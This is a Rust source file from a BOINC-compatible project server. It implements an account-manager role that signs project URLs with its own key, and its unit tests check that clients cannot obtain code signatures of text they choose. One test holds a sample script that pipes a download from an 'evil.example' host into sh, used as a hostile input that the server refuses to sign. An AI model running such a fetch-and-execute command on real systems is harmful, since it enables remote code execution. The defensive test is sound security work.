//! The project server as a minimal account manager (issue "GUI RPC server", account
//! managers; BOINC's account manager RPC: the client POSTs an `<acct_mgr_request>` to
//! the manager's URL + `rpc.php` and gets an `<acct_mgr_reply>`). Its URL is the
//! project's URL + `account_manager/`. Every host that signs in with a configured name
//! and password (BOINC's hash: md5 of the password and the lower-case name) is given
//! the same list of projects, each with its authenticator; a project the host was
//! attached to through the manager and that is no longer listed is detached.
//!
//! The manager signs with a key of its own (`keys/account_manager_private` and
//! `keys/account_manager_public`, made on first use; the public half is the reply's
//! `<signing_key>`), never with the project's code-signing key: a signature of a text
//! under that key is a signature of any executable whose MD5 the text has. And it signs
//! only URLs it chose: the configured projects', and, to detach a host from a project no
//! longer listed, a URL it handed out before, as recorded in
//! `DIR/account_manager_urls.json` ([`ACCOUNT_MANAGER_URLS_FILE`]). A URL a host merely
//! names in its request is never signed: one the manager never listed gets no entry.
//!
//! The configuration is `DIR/account_manager.json` (see [`AccountManagerConfig`]),
//! re-read whenever it changes, so a person or a test changes the list at run time by
//! writing the file or with `PUT /admin/account_manager`. A damaged file is logged and
//! the last good configuration kept; without one, hosts are told the role is off.

use super::atomic_file::write_atomically;
use super::error::ProjectServerError;
use super::keys::{KEYS_DIR, load_or_create_key};
use super::signing::{CodeSignPrivateKey, SigningError, sign_text};
use boinc_core::protocol::acct_mgr::account_manager_password_hash;
use boinc_core::protocol::acct_mgr::{
    AccountManagerAccount, AccountManagerReply, AccountManagerRequest,
};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeSet, HashMap, HashSet};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::SystemTime;

/// The configuration's file in the project directory.
pub const ACCOUNT_MANAGER_FILE: &str = "account_manager.json";

/// The record of every project URL the manager has handed out, in the project
/// directory: what it may sign again to detach a host.
pub const ACCOUNT_MANAGER_URLS_FILE: &str = "account_manager_urls.json";

/// The manager's private key in the project's keys directory (BOINC's text form, as
/// the code-signing key's).
pub(crate) const MANAGER_PRIVATE_KEY_FILE: &str = "account_manager_private";
/// Its public half, sent as `<signing_key>`.
pub(crate) const MANAGER_PUBLIC_KEY_FILE: &str = "account_manager_public";

/// The largest configuration read (a list of projects and users, not a database).
const MAX_CONFIG_BYTES: u64 = 1 << 20;

/// The most URLs recorded; beyond it the oldest are forgotten (hosts still holding
/// one are then no longer detached from it by the manager).
const MAX_RECORDED_URLS: usize = 10_000;
/// The most bytes of URLs recorded, likewise.
const MAX_RECORDED_URL_BYTES: usize = 4 << 20;
/// The largest record read (its URLs, JSON quoting and escapes).
const MAX_URLS_FILE_BYTES: u64 = 16 << 20;

/// BOINC's error number for an account that does not exist (`ERR_DB_NOT_FOUND`).
const NO_SUCH_ACCOUNT: i32 = -136;
/// BOINC's error number for a wrong password (`ERR_BAD_PASSWD`).
const BAD_PASSWORD: i32 = -206;
/// BOINC's error number for a manager that cannot answer (`ERR_NOT_FOUND`).
const NOT_AN_ACCOUNT_MANAGER: i32 = -161;

/// A volunteer who may sign in.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ManagedUser {
    /// The login name.
    pub name: String,
    /// The password (clients send md5 of it and the lower-case name), or `hash:HASH`
    /// for that hash itself, so the file need not hold the password.
    pub password: String,
}

/// A project every host is attached to.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ManagedProject {
    /// Its master URL.
    pub url: String,
    /// The account's authenticator on it.
    pub authenticator: String,
    /// The resource share hosts give it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub resource_share: Option<f64>,
    /// Suspend (true) or resume (false) it on every host.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub suspend: Option<bool>,
    /// Stop (true) or allow (false) fetching its work.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub dont_request_more_work: Option<bool>,
}

/// `DIR/account_manager.json`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AccountManagerConfig {
    /// The manager's name, as clients show it.
    #[serde(default = "default_name")]
    pub name: String,
    /// Seconds until a host asks again (`<repeat_sec>`).
    #[serde(default = "default_repeat_seconds")]
    pub repeat_seconds: f64,
    /// Who may sign in.
    pub users: Vec<ManagedUser>,
    /// The projects.
    pub projects: Vec<ManagedProject>,
}

fn default_name() -> String {
    "boinc-rs account manager".into()
}

fn default_repeat_seconds() -> f64 {
    3600.0
}

impl AccountManagerConfig {
    /// Checks what the JSON cannot say; an error tells what to fix.
    pub fn check(&self) -> Result<(), String> {
        if !(self.repeat_seconds.is_finite() && self.repeat_seconds > 0.0) {
            return Err("repeat_seconds must be a positive number of seconds".into());
        }
        if let Some(user) = self.users.iter().find(|u| u.name.trim().is_empty()) {
            return Err(format!("a user has an empty name (password {:?})", user.password));
        }
        for project in &self.projects {
            if !(project.url.starts_with("http://") || project.url.starts_with("https://")) {
                return Err(format!(
                    "{:?} is not a project URL (http:// or https://)",
                    project.url
                ));
            }
            if project.authenticator.trim().is_empty() {
                return Err(format!("the project {} has no authenticator", project.url));
            }
            if project.resource_share.is_some_and(|s| !(s.is_finite() && s >= 0.0)) {
                return Err(format!("the project {} has a negative resource share", project.url));
            }
        }
        Ok(())
    }
}

/// Master URLs compare without their trailing slash.
fn same_url(a: &str, b: &str) -> bool {
    a.trim().trim_end_matches('/') == b.trim().trim_end_matches('/')
}

/// A URL without blank space around it and without its trailing slashes: every form
/// of a URL a host may hold has the same base.
fn base(url: &str) -> &str {
    url.trim().trim_end_matches('/')
}

/// Whether a host holding `held` holds `recorded` (a URL the manager handed out): as
/// listed, or with or without its trailing slash (clients add one to a master URL).
fn holds(recorded: &str, held: &str) -> bool {
    let base = base(recorded);
    held == recorded
        || held == recorded.trim()
        || held == base
        || held.strip_suffix('/') == Some(base)
}

/// The signer of the manager's replies: its key, and the public half as sent.
struct ManagerKey {
    private: CodeSignPrivateKey,
    public_text: String,
}

impl ManagerKey {
    /// The manager's key, read from the keys directory `keys_dir` or made there.
    fn load_or_create(keys_dir: &Path) -> Result<ManagerKey, ProjectServerError> {
        let error =
            |path: PathBuf, reason: String| ProjectServerError::AccountManagerKey { path, reason };
        let private = load_or_create_key(
            keys_dir,
            MANAGER_PRIVATE_KEY_FILE,
            MANAGER_PUBLIC_KEY_FILE,
            "the account manager's signing key",
            error,
        )?;
        let public_text = private.public_key().to_text();
        Ok(ManagerKey { private, public_text })
    }

    fn sign(&self, url: &str) -> Result<String, SigningError> {
        sign_text(&self.private, url).map(|s| s.to_text())
    }
}

/// The URLs the manager handed out, oldest first (`DIR/account_manager_urls.json`).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
struct HandedOut {
    urls: Vec<String>,
}

impl HandedOut {
    /// Records `urls` (those not recorded yet, in order). Past the bounds the oldest URLs
    /// are forgotten, but never the newest.
    fn add<'a>(
        &mut self,
        urls: impl IntoIterator<Item = &'a str>,
        max_urls: usize,
        max_bytes: usize,
    ) {
        let mut known: HashSet<String> = self.urls.iter().cloned().collect();
        for url in urls {
            if known.insert(url.to_owned()) {
                self.urls.push(url.to_owned());
            }
        }
        let mut bytes: usize = self.urls.iter().map(String::len).sum();
        let mut forgotten = 0;
        while self.urls.len() - forgotten > 1
            && (self.urls.len() - forgotten > max_urls || bytes > max_bytes)
        {
            bytes -= self.urls[forgotten].len();
            forgotten += 1;
        }
        if forgotten > 0 {
            tracing::warn!(
                forgotten,
                oldest = %self.urls[0],
                "the account manager's record of URLs is full; the oldest are forgotten, and \
                 hosts still holding one are no longer detached from it"
            );
            self.urls.drain(..forgotten);
        }
    }

    /// The recorded URLs by [`base`], to look up what hosts hold without a scan of the
    /// whole record for each.
    fn by_base(&self) -> HashMap<&str, Vec<&str>> {
        let mut index: HashMap<&str, Vec<&str>> = HashMap::new();
        for url in &self.urls {
            index.entry(base(url)).or_default().push(url);
        }
        index
    }
}

/// The URL to sign to detach a host from `held`: `held` when it is a form of a URL the
/// manager handed out (`index`: [`HandedOut::by_base`]), so the text signed is always
/// one the manager chose. `None` when the manager never handed it out.
fn handed_out_form(index: &HashMap<&str, Vec<&str>>, held: &str) -> Option<String> {
    let recorded = index.get(base(held))?;
    recorded.iter().any(|recorded| holds(recorded, held)).then(|| held.to_owned())
}

/// The accounts for a host that holds `request.projects`: every configured project,
/// and a detach for each project it holds through the manager that is no longer
/// configured but that the manager handed out (`handed_out`). Every URL signed is the
/// manager's own text.
fn accounts(
    config: &AccountManagerConfig,
    request: &AccountManagerRequest,
    key: &ManagerKey,
    handed_out: &HandedOut,
) -> Result<Vec<AccountManagerAccount>, SigningError> {
    let mut accounts = Vec::with_capacity(config.projects.len());
    for project in &config.projects {
        accounts.push(AccountManagerAccount {
            url: project.url.clone(),
            url_signature: key.sign(&project.url)?,
            authenticator: project.authenticator.clone(),
            resource_share: project.resource_share,
            suspend: project.suspend,
            dont_request_more_work: project.dont_request_more_work,
            ..AccountManagerAccount::default()
        });
    }
    let index = handed_out.by_base();
    let mut detached = BTreeSet::new();
    for held in &request.projects {
        let listed = config.projects.iter().any(|p| same_url(&p.url, &held.url));
        if !held.attached_via_acct_mgr || listed {
            continue;
        }
        // A URL the manager never handed out is the host's own word: no entry at all.
        let Some(url) = handed_out_form(&index, &held.url) else { continue };
        if detached.insert(url.clone()) {
            accounts.push(AccountManagerAccount {
                url_signature: key.sign(&url)?,
                url,
                detach: true,
                ..AccountManagerAccount::default()
            });
        }
    }
    Ok(accounts)
}

fn error_reply(name: String, error_num: i32, error: String) -> AccountManagerReply {
    AccountManagerReply { name, error_num, error: Some(error), ..AccountManagerReply::default() }
}

/// The reply to a host the manager cannot serve for a fault of its own: the host is
/// told to try later, the operator is told why in the log.
fn trouble_reply(
    config: &AccountManagerConfig,
    what: &str,
    error: &dyn std::fmt::Display,
) -> AccountManagerReply {
    tracing::error!(%error, "the account manager cannot answer: {what}");
    error_reply(
        config.name.clone(),
        NOT_AN_ACCOUNT_MANAGER,
        format!("the account manager cannot answer now ({what}); try again later"),
    )
}

/// The file as last read.
struct Loaded {
    modified: Option<SystemTime>,
    len: u64,
    config: Option<AccountManagerConfig>,
}

/// The role's state: the configuration, re-read when its file changes; the manager's
/// key and its record of URLs handed out, read (or made) on first use; the hosts that
/// signed in.
pub(crate) struct AccountManager {
    path: PathBuf,
    keys_dir: PathBuf,
    urls_path: PathBuf,
    loaded: Mutex<Option<Loaded>>,
    key: Mutex<Option<Arc<ManagerKey>>>,
    handed_out: Mutex<Option<HandedOut>>,
    hosts: Mutex<BTreeSet<String>>,
}

impl AccountManager {
    /// The role for the project in `dir`.
    pub(crate) fn new(dir: &Path) -> AccountManager {
        AccountManager {
            path: dir.join(ACCOUNT_MANAGER_FILE),
            keys_dir: dir.join(KEYS_DIR),
            urls_path: dir.join(ACCOUNT_MANAGER_URLS_FILE),
            loaded: Mutex::new(None),
            key: Mutex::new(None),
            handed_out: Mutex::new(None),
            hosts: Mutex::new(BTreeSet::new()),
        }
    }

    /// The reply to `request` under `config` (`None`: the role is off). The configured
    /// projects are recorded as handed out before the reply that hands them out is made,
    /// so a crash never leaves a host holding a URL the manager would not detach.
    pub(crate) fn answer(
        &self,
        config: Option<&AccountManagerConfig>,
        request: &AccountManagerRequest,
    ) -> AccountManagerReply {
        let Some(config) = config else {
            return error_reply(
                default_name(),
                NOT_AN_ACCOUNT_MANAGER,
                format!(
                    "this project server is not an account manager: write {ACCOUNT_MANAGER_FILE} in its directory"
                ),
            );
        };
        let user =
            config.users.iter().find(|u| u.name.trim().eq_ignore_ascii_case(request.name.trim()));
        let Some(user) = user else {
            return error_reply(
                config.name.clone(),
                NO_SUCH_ACCOUNT,
                format!("no account named {:?}", request.name),
            );
        };
        if !account_manager_password_hash(&user.name, &user.password)
            .eq_ignore_ascii_case(request.password_hash.trim())
        {
            return error_reply(config.name.clone(), BAD_PASSWORD, "wrong password".into());
        }
        let key = match self.key() {
            Ok(key) => key,
            Err(error) => return trouble_reply(config, "its signing key cannot be used", &error),
        };
        let mut record = self.handed_out.lock().unwrap_or_else(PoisonError::into_inner);
        if record.is_none() {
            match self.read_handed_out() {
                Ok(read) => *record = Some(read),
                Err(error) => {
                    let what = format!(
                        "its record {ACCOUNT_MANAGER_URLS_FILE} cannot be read: restore it, or \
                         move it away (hosts are then not detached from projects listed before)"
                    );
                    return trouble_reply(config, &what, &error);
                }
            }
        }
        let handed_out = record.get_or_insert_with(HandedOut::default);
        let known: HashSet<&str> = handed_out.urls.iter().map(String::as_str).collect();
        if config.projects.iter().any(|p| !known.contains(p.url.as_str())) {
            let mut updated = handed_out.clone();
            let urls = config.projects.iter().map(|p| p.url.as_str());
            updated.add(urls, MAX_RECORDED_URLS, MAX_RECORDED_URL_BYTES);
            if let Err(error) = self.write_handed_out(&updated) {
                return trouble_reply(
                    config,
                    &format!("its record {ACCOUNT_MANAGER_URLS_FILE} cannot be written"),
                    &error,
                );
            }
            *handed_out = updated;
        }
        match accounts(config, request, &key, handed_out) {
            Ok(accounts) => AccountManagerReply {
                name: config.name.clone(),
                repeat_sec: Some(config.repeat_seconds),
                signing_key: Some(key.public_text.clone()),
                accounts,
                ..AccountManagerReply::default()
            },
            Err(error) => trouble_reply(config, "signing failed", &error),
        }
    }

    /// The manager's key, read or made on first use.
    fn key(&self) -> Result<Arc<ManagerKey>, ProjectServerError> {
        let mut key = self.key.lock().unwrap_or_else(PoisonError::into_inner);
        if let Some(key) = key.as_ref() {
            return Ok(Arc::clone(key));
        }
        let loaded = Arc::new(ManagerKey::load_or_create(&self.keys_dir)?);
        *key = Some(Arc::clone(&loaded));
        Ok(loaded)
    }

    /// The record of URLs handed out; empty when there is none yet.
    fn read_handed_out(&self) -> Result<HandedOut, String> {
        match read_bounded(&self.urls_path, MAX_URLS_FILE_BYTES) {
            Ok(bytes) => serde_json::from_slice(&bytes)
                .map_err(|e| format!("{}: {e}", self.urls_path.display())),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(HandedOut::default()),
            Err(e) => Err(format!("{}: {e}", self.urls_path.display())),
        }
    }

    fn write_handed_out(&self, record: &HandedOut) -> Result<(), String> {
        let json = serde_json::to_vec_pretty(record).map_err(|e| e.to_string())?;
        write_atomically(&self.urls_path, &json, 0o600)
            .map_err(|e| format!("{}: {e}", self.urls_path.display()))
    }

    /// The configuration in force: the file's, read again when it changed; the last
    /// good one when it is damaged; `None` when there never was one.
    pub(crate) fn config(&self) -> Option<AccountManagerConfig> {
        let mut loaded = self.loaded.lock().unwrap_or_else(PoisonError::into_inner);
        let metadata = std::fs::metadata(&self.path).ok();
        let (modified, len) = metadata.as_ref().map_or((None, 0), |m| (m.modified().ok(), m.len()));
        let unchanged = loaded.as_ref().is_some_and(|l| l.modified == modified && l.len == len);
        if !unchanged {
            let previous = loaded.take().and_then(|l| l.config);
            let config = match metadata {
                None => None,
                Some(_) => match self.read() {
                    Ok(config) => Some(config),
                    Err(error) => {
                        tracing::warn!(
                            path = %self.path.display(),
                            %error,
                            "the account manager's configuration is damaged; the last good one is kept"
                        );
                        previous
                    }
                },
            };
            *loaded = Some(Loaded { modified, len, config });
        }
        loaded.as_ref().and_then(|l| l.config.clone())
    }

    fn read(&self) -> Result<AccountManagerConfig, String> {
        let bytes = read_bounded(&self.path, MAX_CONFIG_BYTES).map_err(|e| e.to_string())?;
        let config: AccountManagerConfig =
            serde_json::from_slice(&bytes).map_err(|e| e.to_string())?;
        config.check()?;
        Ok(config)
    }

    /// Replaces the configuration (written atomically; read back at the next request).
    pub(crate) fn replace(&self, config: &AccountManagerConfig) -> Result<(), String> {
        config.check()?;
        let json = serde_json::to_vec_pretty(config).map_err(|e| e.to_string())?;
        write_atomically(&self.path, &json, 0o600).map_err(|e| e.to_string())?;
        // Read again even when the change kept the file's time and length.
        *self.loaded.lock().unwrap_or_else(PoisonError::into_inner) = None;
        Ok(())
    }

    /// Counts a host that signed in.
    pub(crate) fn signed_in(&self, host_cpid: &str) {
        self.hosts.lock().unwrap_or_else(PoisonError::into_inner).insert(host_cpid.to_owned());
    }

    /// Hosts that signed in since the server started.
    pub(crate) fn hosts(&self) -> usize {
        self.hosts.lock().unwrap_or_else(PoisonError::into_inner).len()
    }
}

/// The file at `path`, if it holds at most `limit` bytes.
fn read_bounded(path: &Path, limit: u64) -> std::io::Result<Vec<u8>> {
    use std::io::Read;
    let file = std::fs::File::open(path)?;
    let mut bytes = Vec::new();
    file.take(limit + 1).read_to_end(&mut bytes)?;
    if bytes.len() as u64 > limit {
        return Err(std::io::Error::new(
            std::io::ErrorKind::InvalidData,
            format!("larger than {limit} bytes"),
        ));
    }
    Ok(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use boinc_core::model::RunMode;
    use boinc_core::protocol::acct_mgr::AccountManagerProject;
    use boinc_core::protocol::code_signing::{CodeSignKey, Signature, verify_text_signature};
    use boinc_core::protocol::gui_rpc::PROTOCOL_VERSION;

    fn config() -> AccountManagerConfig {
        AccountManagerConfig {
            name: "Farm".into(),
            repeat_seconds: 60.0,
            users: vec![ManagedUser { name: "Ann".into(), password: "secret".into() }],
            projects: vec![ManagedProject {
                url: "http://127.0.0.1:1/".into(),
                authenticator: "auth1".into(),
                resource_share: Some(50.0),
                suspend: None,
                dont_request_more_work: Some(false),
            }],
        }
    }

    fn request(
        name: &str,
        password: &str,
        projects: Vec<AccountManagerProject>,
    ) -> AccountManagerRequest {
        AccountManagerRequest {
            name: name.into(),
            password_hash: account_manager_password_hash(name, password),
            host_cpid: "cpid".into(),
            previous_host_cpid: String::new(),
            domain_name: "host".into(),
            client_version: PROTOCOL_VERSION,
            run_mode: RunMode::Auto,
            gui_rpc: None,
            projects,
            opaque: String::new(),
        }
    }

    /// A project the host holds.
    fn held(url: &str, via_manager: bool) -> AccountManagerProject {
        AccountManagerProject {
            url: url.into(),
            project_name: String::new(),
            suspended_via_gui: false,
            account_key: "k".into(),
            hostid: 1,
            attached_via_acct_mgr: via_manager,
        }
    }

    fn listing(urls: &[&str]) -> AccountManagerConfig {
        let mut config = config();
        config.projects = urls
            .iter()
            .map(|url| ManagedProject { url: (*url).into(), ..config.projects[0].clone() })
            .collect();
        config
    }

    /// The reply's signing key.
    fn signing_key(reply: &AccountManagerReply) -> CodeSignKey {
        CodeSignKey::parse(reply.signing_key.as_deref().expect("a signing key")).expect("reads")
    }

    /// Every account's URL signature verifies under the reply's own signing key.
    fn assert_signed_by_the_manager(reply: &AccountManagerReply) {
        let key = signing_key(reply);
        for account in &reply.accounts {
            let signature = Signature::parse(&account.url_signature).expect("a signature");
            assert_eq!(
                verify_text_signature(&key, &signature, &account.url),
                Ok(()),
                "{}",
                account.url
            );
        }
    }

    /// Whether `signature`, opened with `key`, is BOINC's signature of anything at all:
    /// PKCS#1 v1.5 type 1 padding (`00 01 FF… 00`) around whatever was signed. When it
    /// is not, no text and no file has this signature under the key.
    fn signs_anything(key: &CodeSignKey, signature: &Signature) -> bool {
        use boinc_core::protocol::code_signing::key_text::{field_width, padded, read_key_text};
        use rsa::BigUint;
        let (_, data) = read_key_text(&key.to_text(), "key", |bits| 2 * field_width(bits))
            .expect("a key's text reads");
        let width = data.len() / 2;
        let n = BigUint::from_bytes_be(&data[..width]);
        let e = BigUint::from_bytes_be(&data[width..]);
        let s = BigUint::from_bytes_be(signature.as_bytes());
        if signature.as_bytes().len() != width || s >= n {
            return false;
        }
        // Raw RSA: what the signature opens to under the public key.
        let opened = s.modpow(&e, &n);
        let block = padded(&opened.to_bytes_be(), width);
        let Some(end) = block.iter().skip(2).position(|&b| b != 0xff).map(|at| at + 2) else {
            return false;
        };
        block.len() == width && block[..2] == [0, 1] && end >= 10 && block[end] == 0
    }

    #[test]
    fn a_hash_in_the_file_stands_for_the_password() {
        let dir = tempfile::tempdir().expect("dir");
        let mut hashed = config();
        hashed.users[0].password =
            format!("hash:{}", account_manager_password_hash("ann", "secret"));
        let manager = AccountManager::new(dir.path());
        let reply = manager.answer(Some(&hashed), &request("Ann", "secret", vec![]));
        assert_eq!((reply.error_num, reply.accounts.len()), (0, 1));
    }

    #[test]
    fn signed_in_hosts_get_the_projects_with_signed_urls() {
        let dir = tempfile::tempdir().expect("dir");
        let manager = AccountManager::new(dir.path());
        let reply = manager.answer(Some(&config()), &request("ann", "secret", vec![]));
        assert_eq!((reply.error_num, &reply.error), (0, &None));
        assert_eq!(reply.repeat_sec, Some(60.0));
        assert_eq!(reply.accounts.len(), 1);
        let account = &reply.accounts[0];
        assert_eq!((account.authenticator.as_str(), account.resource_share), ("auth1", Some(50.0)));
        assert_signed_by_the_manager(&reply);
    }

    #[test]
    fn the_managers_signatures_verify_under_its_own_key_not_the_code_signing_key() {
        let dir = tempfile::tempdir().expect("dir");
        let code_signing = crate::keys::ProjectKeys::load_or_create(dir.path()).expect("keys");
        let manager = AccountManager::new(dir.path());
        let reply = manager.answer(Some(&config()), &request("Ann", "secret", vec![]));
        assert_signed_by_the_manager(&reply);
        let key = signing_key(&reply);
        assert_ne!(&key, code_signing.public(), "the manager has a key of its own");
        // Kept beside the code-signing key, in the same text form.
        let keys = dir.path().join(KEYS_DIR);
        let public = std::fs::read_to_string(keys.join(MANAGER_PUBLIC_KEY_FILE)).expect("public");
        assert_eq!(CodeSignKey::parse(&public), Ok(key.clone()));
        let private =
            std::fs::read_to_string(keys.join(MANAGER_PRIVATE_KEY_FILE)).expect("private");
        assert_eq!(CodeSignPrivateKey::parse(&private).map(|k| k.public_key().clone()), Ok(key));
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(keys.join(MANAGER_PRIVATE_KEY_FILE)).expect("exists");
        assert_eq!(mode.permissions().mode() & 0o777, 0o600);
        for account in &reply.accounts {
            let signature = Signature::parse(&account.url_signature).expect("a signature");
            assert!(!signs_anything(code_signing.public(), &signature), "{}", account.url);
        }
    }

    #[test]
    fn a_client_cannot_get_a_code_signature_of_text_it_chose() {
        use boinc_core::protocol::code_signing::{md5_hex, verify_file_signature};
        let dir = tempfile::tempdir().expect("dir");
        let code_signing = crate::keys::ProjectKeys::load_or_create(dir.path()).expect("keys");
        let code_key = code_signing.public();
        // The check below tells a code signature when it sees one.
        let made = crate::signing::sign_text(code_signing.private(), "x").expect("signs");
        assert!(signs_anything(code_key, &made));

        let manager = AccountManager::new(dir.path());
        // What a client would like signed: a script to run as an executable (its text's
        // signature is the script's file signature), the MD5 of an executable, any text,
        // a URL the manager never listed, one close to a listed URL.
        let script = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
        let executable_md5 = md5_hex(b"\x7fELF some executable");
        let chosen = [
            script.to_owned(),
            executable_md5.clone(),
            "any text at all".to_owned(),
            "http://never.example/".to_owned(),
            "http://127.0.0.1:1/evil/".to_owned(),
            String::new(),
        ];
        let projects = chosen.iter().map(|text| held(text, true)).collect();
        let reply = manager.answer(Some(&config()), &request("Ann", "secret", projects));
        assert_eq!(reply.error, None);
        // The listed project only: no entry for any URL the client named.
        let urls: Vec<_> = reply.accounts.iter().map(|a| a.url.as_str()).collect();
        assert_eq!(urls, ["http://127.0.0.1:1/"]);
        assert!(reply.accounts.iter().all(|a| !a.detach));
        assert_signed_by_the_manager(&reply);
        for account in &reply.accounts {
            let signature = Signature::parse(&account.url_signature).expect("a signature");
            // No signature of the reply is a code signature of anything.
            assert!(!signs_anything(code_key, &signature), "{}", account.url);
            for text in &chosen {
                assert!(verify_text_signature(code_key, &signature, text).is_err());
                assert!(verify_text_signature(&signing_key(&reply), &signature, text).is_err());
            }
            assert!(verify_file_signature(code_key, &signature, &executable_md5).is_err());
            let script_md5 = md5_hex(script.as_bytes());
            assert!(verify_file_signature(code_key, &signature, &script_md5).is_err());
        }
    }

    #[test]
    fn projects_no_longer_listed_are_detached_and_others_left_alone() {
        let dir = tempfile::tempdir().expect("dir");
        let manager = AccountManager::new(dir.path());
        let before = listing(&["http://127.0.0.1:1/", "http://old.example/"]);
        let first = manager.answer(Some(&before), &request("Ann", "secret", vec![]));
        assert_eq!(first.accounts.len(), 2);
        let projects = vec![
            held("http://127.0.0.1:1", true),
            held("http://old.example/", true),
            held("http://own.example/", false),
        ];
        let reply = manager.answer(Some(&config()), &request("Ann", "secret", projects));
        let detached: Vec<_> =
            reply.accounts.iter().filter(|a| a.detach).map(|a| a.url.as_str()).collect();
        assert_eq!(detached, ["http://old.example/"]);
        assert_eq!(reply.accounts.len(), 2);
        assert_signed_by_the_manager(&reply);
    }

    #[test]
    fn a_project_removed_from_the_list_is_detached_with_the_managers_signature() {
        let dir = tempfile::tempdir().expect("dir");
        let manager = AccountManager::new(dir.path());
        // Listed without a trailing slash; clients keep master URLs with one.
        let dropped = "http://dropped.example/p";
        let first = manager.answer(Some(&listing(&[dropped])), &request("Ann", "secret", vec![]));
        let key = signing_key(&first);
        let later = listing(&["http://kept.example/"]);
        for held_url in [dropped, "http://dropped.example/p/"] {
            let projects = vec![held(held_url, true)];
            let reply = manager.answer(Some(&later), &request("Ann", "secret", projects));
            let detach = reply.accounts.iter().find(|a| a.detach).expect("a detach");
            assert_eq!(detach.url, held_url, "the form the host holds");
            assert_eq!(signing_key(&reply), key);
            assert_signed_by_the_manager(&reply);
        }
        // Held, but not through the manager: left alone.
        let own =
            manager.answer(Some(&later), &request("Ann", "secret", vec![held(dropped, false)]));
        assert!(own.accounts.iter().all(|a| !a.detach));
    }

    #[test]
    fn the_record_and_the_key_survive_a_restart() {
        let dir = tempfile::tempdir().expect("dir");
        let dropped = "http://dropped.example/";
        let key = {
            let manager = AccountManager::new(dir.path());
            let reply =
                manager.answer(Some(&listing(&[dropped])), &request("Ann", "secret", vec![]));
            signing_key(&reply)
        };
        let record = std::fs::read(dir.path().join(ACCOUNT_MANAGER_URLS_FILE)).expect("written");
        let record: HandedOut = serde_json::from_slice(&record).expect("JSON");
        assert_eq!(record.urls, [dropped]);
        let restarted = AccountManager::new(dir.path());
        let projects = vec![held(dropped, true)];
        let reply = restarted.answer(Some(&config()), &request("Ann", "secret", projects));
        assert_eq!(signing_key(&reply), key, "the same key after a restart");
        let detached: Vec<_> =
            reply.accounts.iter().filter(|a| a.detach).map(|a| a.url.as_str()).collect();
        assert_eq!(detached, [dropped]);
        assert_signed_by_the_manager(&reply);
    }

    #[test]
    fn the_record_is_bounded_and_forgets_the_oldest() {
        let mut record = HandedOut::default();
        record.add(["http://a/", "http://a/", "http://b/"], 2, 100);
        assert_eq!(record.urls, ["http://a/", "http://b/"], "each once");
        record.add(["http://b/", "http://c/"], 2, 100);
        assert_eq!(record.urls, ["http://b/", "http://c/"]);
        record.add(["http://long.example/"], 2, 25);
        assert_eq!(record.urls, ["http://long.example/"], "the newest is kept");
        let index = record.by_base();
        for held in ["http://long.example/", "http://long.example", " http://long.example/"] {
            let form = handed_out_form(&index, held);
            assert_eq!(form.as_deref(), Some(held).filter(|h| !h.starts_with(' ')), "{held:?}");
        }
        assert_eq!(handed_out_form(&index, "http://long.example//"), None);
        assert_eq!(handed_out_form(&index, "http://b/"), None, "forgotten");
    }

    #[test]
    fn a_damaged_record_is_an_error_and_signs_nothing() {
        let dir = tempfile::tempdir().expect("dir");
        std::fs::write(dir.path().join(ACCOUNT_MANAGER_URLS_FILE), b"{ damaged").expect("written");
        let manager = AccountManager::new(dir.path());
        let reply = manager.answer(Some(&config()), &request("Ann", "secret", vec![]));
        assert_eq!(reply.error_num, NOT_AN_ACCOUNT_MANAGER);
        assert!(reply.accounts.is_empty() && reply.signing_key.is_none());
        let error = reply.error.expect("an error");
        assert!(error.contains(ACCOUNT_MANAGER_URLS_FILE), "{error}");
        assert!(!error.contains(&dir.path().display().to_string()), "no server paths: {error}");
    }

    #[test]
    fn strangers_wrong_passwords_and_no_configuration_are_errors() {
        let dir = tempfile::tempdir().expect("dir");
        let manager = AccountManager::new(dir.path());
        let wrong = manager.answer(Some(&config()), &request("Ann", "guess", vec![]));
        assert_eq!(wrong.error_num, BAD_PASSWORD);
        assert!(wrong.accounts.is_empty());
        let stranger = manager.answer(Some(&config()), &request("Bob", "secret", vec![]));
        assert_eq!(stranger.error_num, NO_SUCH_ACCOUNT);
        let off = manager.answer(None, &request("Ann", "secret", vec![]));
        assert_eq!(off.error_num, NOT_AN_ACCOUNT_MANAGER);
        assert!(off.error.is_some_and(|e| e.contains(ACCOUNT_MANAGER_FILE)));
        // Nobody signed in: no key was made, nothing recorded.
        assert!(!dir.path().join(KEYS_DIR).exists());
        assert!(!dir.path().join(ACCOUNT_MANAGER_URLS_FILE).exists());
    }

    #[test]
    fn the_file_is_read_again_when_it_changes_and_a_damaged_one_keeps_the_last() {
        let dir = tempfile::tempdir().expect("dir");
        let manager = AccountManager::new(dir.path());
        assert_eq!(manager.config(), None);
        manager.replace(&config()).expect("written");
        assert_eq!(manager.config(), Some(config()));
        let mut changed = config();
        changed.projects[0].url = "http://127.0.0.1:2/".into();
        std::fs::write(
            dir.path().join(ACCOUNT_MANAGER_FILE),
            serde_json::to_vec(&changed).expect("json"),
        )
        .expect("written by hand");
        assert_eq!(manager.config(), Some(changed.clone()));
        std::fs::write(dir.path().join(ACCOUNT_MANAGER_FILE), b"{ damaged").expect("damaged");
        assert_eq!(manager.config(), Some(changed));
        let mut bad = config();
        bad.projects[0].url = "ftp://x/".into();
        assert!(manager.replace(&bad).is_err());
    }
}
